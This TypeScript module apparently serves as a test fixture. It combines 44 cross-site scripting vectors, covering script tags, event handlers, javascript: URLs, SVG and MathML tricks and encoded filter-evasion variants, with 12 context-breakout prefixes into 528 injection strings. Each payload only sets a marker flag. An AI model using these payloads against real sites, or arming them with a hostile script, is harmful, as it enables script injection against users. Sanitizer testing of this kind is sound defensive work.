// Texts that would run a script wherever a page took them for markup.

/** What each of them would do. */
const RUN = "self.injected=1";

/** What runs a script when it is parsed, loaded, shown or pressed. */
const VECTORS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script/x>${RUN}</script >`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<<script>${RUN}//<</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<img src=x oNeRrOr="&#115;elf.injected=1">`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=9 y=9>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.injected=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="JaVaScRiPt:${RUN}">x</a>`,
  `<a href="&#106;avascript:${RUN}">x</a>`,
  `<a href="java&Tab;script:${RUN}">x</a>`,
  `<a href=" &#1;javascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}" form=sign-out>x</button>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<style>@import 'javascript:${RUN}';</style>`,
  `<link rel=stylesheet href="javascript:${RUN}">`,
  `<base href="javascript:${RUN}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<div style="background:url(javascript:${RUN})">x</div>`,
  `<x onpointerenter=${RUN} style=display:block>x</x>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><img src=x onerror=${RUN}></noscript>`,
  `{{constructor.constructor('${RUN}')()}}`,
];

/** What ends the attribute, text or script that a page may have put a text into. */
const WAYS_OUT = ["", `"`, `'`, `>`, `">`, `'>`, "</title>", "</textarea>", "</script>", "-->", "]]>", "`}"];

/** More than five hundred. */
export const injections: readonly string[] = VECTORS.flatMap((vector) => WAYS_OUT.map((out) => out + vector));
